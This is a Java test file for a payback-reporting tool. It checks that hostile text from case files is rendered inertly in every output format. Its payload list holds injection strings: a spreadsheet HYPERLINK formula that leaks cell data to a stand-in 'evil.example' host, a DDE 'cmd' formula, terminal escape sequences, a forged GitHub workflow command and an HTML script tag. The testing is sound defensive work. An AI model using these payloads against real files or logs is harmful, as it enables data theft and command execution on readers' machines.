package dk.payback.format;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dk.payback.calc.Analysis;
import dk.payback.calc.Discounting;
import dk.payback.calc.Scenario;
import dk.payback.check.CheckReport;
import dk.payback.check.Checker;
import dk.payback.check.FailOn;
import dk.payback.check.Revision;
import dk.payback.model.Amounts;
import dk.payback.model.Area;
import dk.payback.model.CaseSet;
import dk.payback.model.Centre;
import dk.payback.model.Line;
import dk.payback.model.Location;
import dk.payback.model.Origin;
import dk.payback.model.Portfolio;
import dk.payback.model.PortfolioRow;
import dk.payback.model.PortfolioTotal;
import dk.payback.model.Proposal;
import dk.payback.model.ProposalType;
import dk.payback.model.Realised;
import dk.payback.model.Risk;
import dk.payback.model.SourceRef;
import dk.payback.model.Stated;
import dk.payback.view.BudgetView;
import dk.payback.view.DiffView;
import dk.payback.view.Document;
import dk.payback.view.Documents;
import dk.payback.view.Lang;
import dk.payback.view.Selection;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every text a case file holds is untrusted: a hostile contributor to a cases repository writes
 * titles, line texts, notes, labels and file names. Each one below is put into every text field of
 * a case set and sent through every view in every format that lays that view out; whatever the
 * format, none may reach its reader as anything but text.
 */
class HostileTextTest {

  /** Terminal and CI log control, fake rows, markup, spreadsheet formulas, workflow commands. */
  static final List<String> HOSTILE =
      List.of(
          "\u001b]0;PWNED\u0007\u001b[2J\u001b[HFake",
          "First\nXX99 Fake row",
          "Carriage\rreturn",
          "C1 \u009b31m control",
          "Bidi \u202eevil\u202c override",
          "I ALT\n::warning::INJECTED",
          "::error file=x::forged",
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "+1 plus",
          "-1 minus",
          "\tTab first",
          "</td><script>alert(1)</script>",
          "| pipe | [link](http://evil.example) *bold* `code`",
          "]]></failure><failure>");

  private static final Pattern RAW_CONTROL =
      Pattern.compile(
          "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]");

  static Stream<Arguments> textsAndFormats() {
    List<Arguments> all = new ArrayList<>();
    for (String text : HOSTILE) {
      for (OutputFormat format : OutputFormat.values()) {
        all.add(Arguments.of(format, text));
      }
    }
    return all.stream();
  }

  @ParameterizedTest(name = "{0} {1}")
  @MethodSource("textsAndFormats")
  void aHostileTextReachesNoReaderAsAnythingButText(OutputFormat format, String text)
      throws Exception {
    CaseSet cases = cases(text);
    Analysis analysis = Analysis.of(cases);
    CheckReport checks = Checker.check(analysis, 0);
    assertThat(checks.balances()).as("the cases are built to give findings").isFalse();
    Format f = format.create(new FormatOptions(100, CsvDialect.RFC4180));
    for (Document d : documents(analysis, checks, format)) {
      byte[] bytes = f.render(d);
      switch (format) {
        case TEXT, MD -> plainText(new String(bytes, StandardCharsets.UTF_8), format);
        case HTML -> html(new String(bytes, StandardCharsets.UTF_8));
        case CSV -> csv(new String(bytes, StandardCharsets.UTF_8));
        case JSON -> json(bytes, carriesInputText(d) ? text : "");
        case GITHUB -> github(new String(bytes, StandardCharsets.UTF_8));
        case JUNIT -> xml(bytes);
        case XLSX -> xlsx(bytes, text);
      }
    }
  }

  /**
   * The documents a format lays out: every view for most, the findings alone for the CI formats.
   */
  private static List<Document> documents(
      Analysis analysis, CheckReport checks, OutputFormat format) {
    Discounting d = Discounting.DEFAULT;
    Document check = Documents.check(checks, true, Lang.DA);
    if (format == OutputFormat.JUNIT) {
      return List.of(check);
    }
    // Against plain texts every line is renamed and every title changed; against nothing, every
    // proposal is new.
    Analysis plain = Analysis.of(cases("plain"));
    Analysis none = Analysis.of(new CaseSet(List.of(), null));
    List<Document> diffs =
        List.of(
            diff(plain, analysis, d, "plain", Lang.DA),
            diff(analysis, none, d, analysis.cases().proposals().get(0).title(), Lang.EN),
            diff(none, analysis, d, "none", Lang.DA));
    if (format == OutputFormat.GITHUB) {
      return java.util.stream.Stream.concat(Stream.of(check), diffs.stream()).toList();
    }
    List<Proposal> all = analysis.cases().proposals();
    List<Document> documents =
        new ArrayList<>(
            List.of(
                Documents.summary(analysis, Scenario.BASE, d, Lang.DA),
                Documents.budget(analysis, true, Lang.EN),
                Documents.show(analysis, all, Scenario.savingsAt("0.9"), d, Lang.EN),
                Documents.sensitivity(analysis, all, d, Lang.DA),
                check,
                Documents.report(analysis, Scenario.BASE, d, checks, Lang.DA),
                Documents.track(analysis, null, d, Lang.EN),
                // Grouped: the centre's name and the fund, both input, label the subtotals.
                Documents.summary(
                    analysis,
                    Scenario.BASE,
                    d,
                    new Selection(
                        List.of("xx*"),
                        null,
                        null,
                        null,
                        Selection.Sort.ID,
                        Selection.Grouping.CENTRE),
                    Lang.EN),
                Documents.report(
                    analysis,
                    Scenario.BASE,
                    d,
                    checks,
                    new Selection(
                        List.of(),
                        null,
                        analysis.cases().proposals().get(0).fund(),
                        null,
                        Selection.Sort.PAYBACK,
                        Selection.Grouping.FUND),
                    Lang.DA),
                Documents.report(
                    analysis,
                    Scenario.BASE,
                    d,
                    checks,
                    new Selection(
                        List.of(), null, null, null, Selection.Sort.NPV, Selection.Grouping.CENTRE),
                    Lang.EN),
                // Filtered by the fund, input, which the JSON names among its filters.
                Documents.budget(
                    analysis,
                    new Selection(
                        List.of(),
                        null,
                        analysis.cases().proposals().get(0).fund(),
                        null,
                        Selection.Sort.NUMBER,
                        null),
                    true,
                    Lang.DA)));
    documents.addAll(diffs);
    return documents;
  }

  /** What changed from one set to the other, with every condition holding somewhere. */
  static Document diff(
      Analysis before, Analysis after, Discounting d, String beforeName, Lang lang) {
    Revision r = Revision.of(before, Checker.check(before, 0), after, Checker.check(after, 0), d);
    List<FailOn.Breach> breaches = FailOn.parse("new-findings").breaches(r);
    return Documents.diff(DiffView.of(r, true, beforeName, "after", 2, 2, breaches, lang));
  }

  private static void plainText(String out, OutputFormat format) {
    assertThat(RAW_CONTROL.matcher(out).find())
        .as("a raw control character in %s:\n%s", format, out)
        .isFalse();
    for (String line : out.split("\n", -1)) {
      assertThat(line)
          .as("a row made by the input")
          .doesNotStartWith("XX99")
          .doesNotStartWith("| XX99");
      assertThat(line).doesNotStartWith("::");
    }
    if (format == OutputFormat.MD) {
      // Escaped, "\\<script" and "\\](http" are text; unescaped they would be markup and a link.
      assertThat(out)
          .doesNotContainPattern("(?<!\\\\)<script")
          .doesNotContainPattern("(?<!\\\\)\\]\\(http");
    }
  }

  private static void html(String out) {
    assertThat(out).doesNotContain("<script").doesNotContain("</td><script");
    assertThat(RAW_CONTROL.matcher(out).find()).as("a raw control character in HTML").isFalse();
  }

  /**
   * A text cell may not start a formula, and no escape sequence reaches a terminal; amounts keep
   * their sign.
   */
  private static void csv(String out) {
    assertThat(
            Pattern.compile(
                    "[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u202a-\\u202e\\u2066-\\u2069]")
                .matcher(out)
                .find())
        .as("a raw control character in CSV")
        .isFalse();
    for (String record : out.split("\r\n")) {
      for (String field : record.split(",", -1)) {
        String f = field.startsWith("\"") ? field.substring(1) : field;
        if (!f.matches("-?[0-9]+")) {
          assertThat(f)
              .as("a CSV field that a spreadsheet would run")
              .doesNotStartWith("=")
              .doesNotStartWith("+")
              .doesNotStartWith("@")
              .doesNotStartWith("\t")
              .doesNotStartWith("\r")
              .doesNotMatch("-[^0-9].*");
        }
      }
    }
  }

  /**
   * The budget's JSON is figures alone, keyed by the type and area's own spelling, and the fund it
   * is filtered by; every other document's carries the cases' texts.
   */
  private static boolean carriesInputText(Document d) {
    return !d.views().stream().allMatch(BudgetView.class::isInstance)
        || d.views().stream().anyMatch(v -> ((BudgetView) v).selection().fund() != null);
  }

  /** JSON carries the text exactly, as a string. */
  private static void json(byte[] bytes, String text) throws IOException {
    JsonNode root = new ObjectMapper().readTree(bytes);
    assertThat(root.toString())
        .contains(new ObjectMapper().writeValueAsString(text).replaceAll("^\"|\"$", ""));
  }

  /**
   * Only the format's own annotations start a workflow command; nothing from input starts a line.
   */
  private static void github(String out) {
    for (String line : out.split("\n", -1)) {
      if (line.startsWith("::")) {
        // Property values have ':' and ',' escaped, so the command ends at the format's own "::".
        assertThat(line)
            .matches(
                "::(error|warning|notice) file=[^:,]*,line=[0-9]+,col=[0-9]+,title=[^:]*::.*"
                    + "|::notice title=payback check::.*");
      }
      assertThat(RAW_CONTROL.matcher(line).find())
          .as("a raw control character in %s", line)
          .isFalse();
    }
  }

  private static void xml(byte[] bytes) throws Exception {
    DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
    f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
    org.w3c.dom.Document doc = f.newDocumentBuilder().parse(new ByteArrayInputStream(bytes));
    assertThat(doc.getElementsByTagName("failure").getLength())
        .as("failures are the findings, none forged")
        .isEqualTo(
            doc.getElementsByTagName("testcase").getLength() > 0
                ? Integer.parseInt(doc.getDocumentElement().getAttribute("failures"))
                : 0);
  }

  /**
   * Every sheet is well-formed XML; the hostile text is in string cells only, and the workbook's
   * own formulas (sums and references over cells, between quoted sheet names) hold none of it.
   */
  private static void xlsx(byte[] bytes, String text) throws Exception {
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(bytes))) {
      for (ZipEntry e = zip.getNextEntry(); e != null; e = zip.getNextEntry()) {
        if (e.getName().endsWith(".xml")) {
          byte[] xml = zip.readAllBytes();
          xml(xml.length == 0 ? "<x/>".getBytes(StandardCharsets.UTF_8) : xml, e.getName());
        }
      }
    }
    Map<String, List<XlsxText.Cell>> sheets = XlsxText.sheets(bytes);
    String shown = XlsxFormat.xmlText(text);
    List<XlsxText.Cell> holding = new ArrayList<>();
    for (List<XlsxText.Cell> cells : sheets.values()) {
      for (XlsxText.Cell c : cells) {
        if (c.isFormula()) {
          assertThat(c.formula()).as(c.ref()).doesNotContain(text).doesNotContain(shown);
          assertThat(XlsxText.isOwnFormula(c.formula(), sheets.keySet())).as(c.formula()).isTrue();
        }
        if (c.value().contains(shown)) {
          holding.add(c);
        }
      }
    }
    assertThat(holding).as("the text is in the workbook").isNotEmpty();
    assertThat(holding)
        .as("every cell that holds the text is a string cell")
        .allSatisfy(
            c -> {
              assertThat(c.type()).isEqualTo("s");
              assertThat(c.isFormula()).isFalse();
            });
  }

  private static void xml(byte[] bytes, String name) throws Exception {
    DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();
    f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
    assertThat(f.newDocumentBuilder().parse(new ByteArrayInputStream(bytes))).as(name).isNotNull();
  }

  /**
   * Two proposals and an overview, every text field the hostile text: the first proposal's stated
   * net impact is off, so that check has a finding to print; its file name is hostile too.
   */
  static CaseSet cases(String text) {
    String file = "cases/" + text + ".yaml";
    Origin origin = new Origin(file, Map.of("id", new Location(file, 2, 5)));
    Proposal a =
        new Proposal(
            "XX01",
            ProposalType.INVESTMENT,
            text,
            text,
            text,
            Risk.HIGH,
            new SourceRef(text, 3),
            List.of(2018, 2019, 2020),
            List.of(new Line(text, Area.SERVICE, Amounts.of(Map.of(2019, -500L, 2020, -500L)))),
            List.of(new Line(text, Area.CAPITAL, Amounts.of(Map.of(2018, 600L)))),
            new Stated(null, null, Amounts.of(Map.of(2018, 600L, 2019, -400L)), 3),
            null,
            // Followed up, with the hostile text as a realised line's and a note: the follow-up
            // prints both.
            new Realised(
                2019,
                null,
                Amounts.of(Map.of(2018, 700L)),
                List.of(new Realised.RealisedLine(text, true, Amounts.of(Map.of(2019, -400L)))),
                List.of(text)),
            List.of(text),
            origin);
    Proposal b =
        new Proposal(
            "XX02",
            ProposalType.INNOVATION,
            text,
            null,
            null,
            null,
            null,
            List.of(2018, 2019),
            List.of(),
            List.of(new Line(text, null, Amounts.of(Map.of(2018, 100L)))),
            Stated.none(),
            null,
            null,
            List.of(),
            Origin.ofFile("cases/XX02.yaml"));
    Portfolio portfolio =
        new Portfolio(
            text,
            new SourceRef(text, 1),
            2018,
            2020,
            List.of(2019, 2020),
            List.of(text),
            List.of(
                new PortfolioRow(1, "XX01", 3, 600, Amounts.of(Map.of(2019, -500L, 2020, -500L))),
                new PortfolioRow(2, "XX03", 4, 1, Amounts.empty())),
            new PortfolioTotal(text, 601, Amounts.of(Map.of(2019, -500L, 2020, -500L))),
            new PortfolioTotal(text, 100, Amounts.empty()),
            List.of(new Centre("XX", text, 1)),
            Origin.ofFile(text + "/portfolio.yaml"));
    return new CaseSet(List.of(a, b), portfolio);
  }
}
